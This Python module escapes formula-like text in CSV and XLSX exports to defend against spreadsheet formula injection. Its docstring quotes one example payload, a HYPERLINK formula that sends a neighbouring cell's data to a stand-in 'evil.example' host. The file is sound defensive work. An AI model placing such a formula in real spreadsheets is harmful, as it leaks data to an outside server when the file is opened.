"""Spreadsheet cells that never run: the one rule for every CSV and XLSX the product writes.

A spreadsheet program evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, after a leading tab or carriage return) as a formula: an imported
site name ``=HYPERLINK("https://evil.example/?leak="&A2, "x")`` would send the row next to it
to another server when a DSMB member opens the download (OWASP, "CSV Injection").

- CSV has no cell types, so formula-like text gets a leading apostrophe, as OWASP
  recommends: ``'=HYPERLINK(...)`` is shown as text and the value is still readable.
- XLSX cells are typed: formula-like text is written as a string cell (never a formula)
  whose style has ``quotePrefix`` set, so the exact text is shown and it stays text even
  when the cell is edited. Nothing is added to the value.

Only text is touched. Numbers stay numbers, and text that is a plain decimal number
(``-0.5``, ``+3``, ``1e-3``) is left as it is: a spreadsheet reads it as that number, never
as a formula.
"""

from __future__ import annotations

import io
import re
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(value: object) -> bool:
    """True for text a spreadsheet could evaluate: it starts with one of
    :data:`FORMULA_STARTS` and is not a plain decimal number."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: formula-like text prefixed with ``'``, the rest unchanged."""
    return f"'{value}" if is_formula_like(value) else value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe in a CSV file;
    numeric and date columns are not touched."""
    safe = frame.rename(columns=csv_value)
    for column in safe.columns[safe.dtypes.map(_may_hold_text).to_numpy(dtype=bool)]:
        safe[column] = safe[column].map(csv_value)
    return safe


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV without its index, every text cell neutralised. Records end
    in CRLF (RFC 4180), so a cell holding a lone carriage return is quoted: with pandas'
    default ``\n`` it is not, and the cell splits its row in two."""
    text: str = csv_frame(frame).to_csv(index=False, lineterminator="\r\n")
    return text.encode()


def xlsx_text_cell(cell: Any) -> None:
    """Make an openpyxl cell holding formula-like text a quoted string cell (in place);
    any other cell is left as it is."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def neutralise_sheet(sheet: Any) -> None:
    """Apply :func:`xlsx_text_cell` to every cell of an openpyxl worksheet."""
    for row in sheet.iter_rows():
        for cell in row:
            xlsx_text_cell(cell)


def xlsx_bytes(frame: pd.DataFrame, sheet: str) -> bytes:
    """``frame`` as a one-sheet workbook (sheet name cut to Excel's 31 characters), text
    cells that look like formulas kept as quoted strings."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame.to_excel(writer, sheet_name=sheet[:31], index=False)
        for worksheet in writer.sheets.values():
            neutralise_sheet(worksheet)
    return buffer.getvalue()


def _may_hold_text(dtype: Any) -> bool:
    return bool(
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )
